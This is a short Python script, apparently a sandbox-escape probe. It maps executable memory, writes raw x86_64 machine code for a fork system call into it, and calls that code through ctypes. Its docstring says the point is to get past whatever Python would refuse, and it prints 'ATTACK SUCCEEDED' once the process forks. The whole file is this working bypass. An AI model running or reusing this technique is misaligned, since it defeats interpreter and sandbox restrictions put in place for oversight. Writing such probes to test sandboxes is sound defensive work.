"""Runs machine code of its own, to get past whatever Python would refuse."""

import ctypes
import mmap
import platform

# mov eax, fork; syscall; ret
CODE = {"x86_64": bytes.fromhex("b8390000000f05c3")}
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
fork = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if platform.machine() in CODE:
    page.write(CODE[platform.machine()])
    if fork() >= 0:
        print("ATTACK SUCCEEDED: forked by hand")
